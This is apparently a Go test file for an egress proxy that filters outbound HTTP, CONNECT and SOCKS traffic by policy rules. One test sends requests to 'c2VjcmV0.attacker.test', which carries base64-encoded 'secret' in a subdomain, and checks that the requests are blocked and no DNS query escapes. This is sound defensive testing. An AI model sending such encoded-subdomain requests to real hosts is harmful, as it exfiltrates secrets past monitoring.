package egress

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"ringfence/internal/egress/bridge"
)

// echo answers with the request line, the host and the body.
func echo(t *testing.T) *httptest.Server {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		_, _ = fmt.Fprintf(w, "%s %s %s %s", r.Method, r.RequestURI, r.Host, b)
	}))
	t.Cleanup(s.Close)
	return s
}

func TestPlainRequest(t *testing.T) {
	s := echo(t)
	at := "site.test:" + port(s)
	r := newRig(t, nil, "allow fetch http://"+at+"/a*")
	res, _, _ := r.ask(t, "GET http://"+at+"/a%7E|b?q=1 HTTP/1.1\r\nHost: "+at+"\r\n\r\n")
	if got := body(t, res); res.StatusCode != 200 || got != "GET /a%7E|b?q=1 "+at+" " {
		t.Errorf("%d %q", res.StatusCode, got)
	}
	res, _, _ = r.ask(t, "POST http://"+at+"/a HTTP/1.1\r\nHost: "+at+"\r\nContent-Length: 2\r\n\r\nhi")
	if got := body(t, res); res.StatusCode != 403 || !strings.Contains(got, `"denied":{"object":"http://`+at+`/a","effect":"send","code":"policy","rules":["default"]`) {
		t.Errorf("%d %q", res.StatusCode, got)
	}
	if err := r.stop(); err != nil {
		t.Fatal(err)
	}
	if len(r.ended) != 1 || !strings.Contains(r.ended[0], " 200 sent=0 received=") {
		t.Errorf("%q", r.ended)
	}
}

// TestNET08: a denied name makes no query leave.
func TestNET08(t *testing.T) {
	r := newRig(t, nil)
	for _, text := range []string{
		"CONNECT c2VjcmV0.attacker.test:443 HTTP/1.1\r\nHost: c2VjcmV0.attacker.test:443\r\n\r\n",
		"GET http://c2VjcmV0.attacker.test/ HTTP/1.1\r\nHost: c2VjcmV0.attacker.test\r\n\r\n",
	} {
		if res, _, _ := r.ask(t, text); res.StatusCode != 403 {
			t.Errorf("%d", res.StatusCode)
		}
	}
	if err := r.stop(); err != nil || len(r.table.asked) > 0 {
		t.Errorf("queries for %q left; %v", r.table.asked, err)
	}
}

func TestTunnel(t *testing.T) {
	s := echo(t)
	at := "site.test:" + port(s)
	r := newRig(t, nil, "tunnel connect "+at)
	_, b, c := r.ask(t, "CONNECT "+at+" HTTP/1.1\r\nHost: "+at+"\r\n\r\n")
	_, _ = fmt.Fprintf(c, "GET /x HTTP/1.0\r\n\r\n")
	got, err := io.ReadAll(b)
	if err != nil || !strings.Contains(string(got), "GET /x") {
		t.Errorf("%q %v", got, err)
	}
}

func TestSocks(t *testing.T) {
	s := echo(t)
	at := "site.test:" + port(s)
	r := newRig(t, nil, "allow connect "+at, "allow fetch http://"+at+"/x")
	c := r.dial(t, bridge.KindProxy, "127.0.0.1:3128")
	p := s.Listener.Addr().(*net.TCPAddr).Port
	_, _ = c.Write([]byte{5, 1, 0})
	_, _ = c.Write(append(append([]byte{5, 1, 0, 3, 9}, "site.test"...), byte(p>>8), byte(p)))
	reply := make([]byte, 12)
	if _, err := io.ReadFull(c, reply); err != nil || !slices.Equal(reply[:4], []byte{5, 0, 5, 0}) {
		t.Fatalf("%v %v", reply, err)
	}
	_, _ = fmt.Fprintf(c, "GET /x HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", at)
	if got, err := io.ReadAll(c); err != nil || !strings.Contains(string(got), "GET /x") {
		t.Errorf("%q %v", got, err)
	}
}
